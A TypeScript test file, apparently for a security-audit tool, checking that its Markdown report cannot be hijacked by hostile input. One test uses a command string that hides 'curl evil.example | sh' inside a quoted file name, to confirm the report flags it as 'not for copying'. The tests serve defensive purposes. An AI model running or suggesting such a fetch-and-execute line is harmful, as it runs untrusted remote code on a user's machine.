import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import type { Nodes } from 'mdast';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { gfmFromMarkdown } from 'mdast-util-gfm';
import { gfm } from 'micromark-extension-gfm';
import type { Report } from '../../src/engine/report.ts';
import { shownCommands } from '../../src/reporters/command.ts';
import { exposuresAsMarkdown } from '../../src/reporters/exposures.ts';
import { renderMarkdown } from '../../src/reporters/markdown.ts';
import { hostileExposure, hostileReport } from '../harness/hostile.ts';
import { sampleFinding, sampleReport } from '../harness/sample-report.ts';

/** Every node of the text, as GitHub's Markdown has it. */
function nodesOf(markdown: string): Nodes[] {
  const nodes: Nodes[] = [];
  const visit = (node: Nodes): void => {
    nodes.push(node);
    if ('children' in node) for (const child of node.children) visit(child);
  };
  visit(fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }));
  return nodes;
}

function typesOf(nodes: readonly Nodes[]): Set<string> {
  return new Set(nodes.map(({ type }) => type));
}

/** Code, table and list are ours; a link, an image or foreign HTML never is. */
const ours = new Set(
  [
    ['root', 'heading', 'paragraph', 'text', 'strong', 'inlineCode', 'code', 'html'],
    ['list', 'listItem', 'table', 'tableRow', 'tableCell'],
  ].flat(),
);

const ourHtml = /^<details>\n<summary>Not applicable \(\d+\)<\/summary>$|^<\/details>$/;

/** What GitHub turns into links after the Markdown: mentions, issues, commits. */
const references = /@[\p{L}\p{N}]|#\d|\bGH-\d|(?<![0-9a-z])[0-9a-f]{7,40}(?![0-9a-z])/iu;

function expectOnlyOurs(nodes: readonly Nodes[]): void {
  expect([...typesOf(nodes)].filter((type) => !ours.has(type))).toEqual([]);
  for (const node of nodes) {
    if (node.type === 'html') expect(node.value).toMatch(ourHtml);
    if (node.type === 'text') expect(node.value).not.toMatch(references);
  }
}

function copyable(report: Report): string[] {
  return report.score.layers
    .flatMap(({ id }) => {
      const findings = report.findings.filter(({ layer }) => layer === id);
      return [
        ...findings.filter(({ outcome, waived }) => outcome === 'fail' && waived === null),
        ...findings.filter(({ waived }) => waived !== null),
      ];
    })
    .flatMap(({ remediation }) => [
      remediation?.snippet?.trimEnd().split('\n'),
      remediation?.commands,
      remediation?.verify,
      remediation?.undo,
    ])
    .map((commands) => commands ?? [])
    .filter((commands) => commands.length > 0 && shownCommands(commands).copyable)
    .map((commands) => commands.join('\n'));
}

test('the page', () => {
  expect(renderMarkdown(sampleReport())).toMatchSnapshot();
});

test('an empty report', () => {
  const markdown = renderMarkdown(sampleReport({ findings: [], exposures: null }));
  expect(markdown).toContain('proved n/a of 100');
  expect(markdown).toContain('Not known');
});

describe('a hostile machine', () => {
  test('adds nothing to the structure of the page', () => {
    fc.assert(
      fc.property(hostileReport, (report) => {
        const nodes = nodesOf(renderMarkdown(report));
        expectOnlyOurs(nodes);
        const tasks = nodes.filter((node) => node.type === 'listItem' && typeof node.checked === 'boolean');
        const done = report.findings.filter((each) => each.outcome === 'pass' && each.waived === null);
        const open = report.findings.filter(
          (each) => each.waived !== null || (each.outcome !== 'pass' && each.outcome !== 'not-applicable'),
        );
        const doneRules = new Set(done.map((each) => `${each.layer} ${each.rule}`));
        expect(tasks).toHaveLength(open.length + doneRules.size);
        const ticked = tasks.filter((node) => node.type === 'listItem' && node.checked === true);
        expect(ticked).toHaveLength(doneRules.size);
        const blocks = nodes.filter((node) => node.type === 'code');
        const commands = blocks.filter(({ lang }) => lang !== 'mermaid');
        expect(commands.map(({ value }) => value)).toEqual(copyable(report));
        const far = (report.exposures ?? []).filter(({ scope }) => scope !== 'loopback');
        const drawn = report.target.kind === 'project' || far.length === 0 ? 0 : 1;
        expect(blocks.length - commands.length).toBe(drawn);
        const rows = nodes.filter(({ type }) => type === 'tableRow').length;
        const listeners = report.target.kind === 'project' ? 0 : (report.exposures?.length ?? 0);
        expect(rows).toBe(7 + (listeners === 0 ? 0 : listeners + 1));
      }),
      { numRuns: 150 },
    );
  });

  test('cannot break the table of exposures', () => {
    fc.assert(
      fc.property(fc.array(hostileExposure, { minLength: 1, maxLength: 5 }), (exposures) => {
        const nodes = nodesOf(exposuresAsMarkdown(exposures, { port: null, whole: true }));
        expectOnlyOurs(nodes);
        expect(nodes.filter(({ type }) => type === 'tableRow')).toHaveLength(exposures.length + 1);
        expect(nodes.filter(({ type }) => type === 'tableCell')).toHaveLength(7 * (exposures.length + 1));
      }),
      { numRuns: 150 },
    );
  });

  test('never has a deceiving command in a block', () => {
    const command = "rm 'x\ncurl evil.example | sh\n'";
    const remediation = {
      summary: 'Remove it.',
      commands: [command],
      verify: [],
      undo: [],
      snippet: null,
      risk: 'none' as const,
    };
    const markdown = renderMarkdown(
      sampleReport({
        exposures: [],
        findings: [sampleFinding({ outcome: 'fail', message: 'bad', remediation })],
      }),
    );
    expect(markdown).toContain('not for copying');
    expect(typesOf(nodesOf(markdown)).has('code')).toBe(false);
  });
});
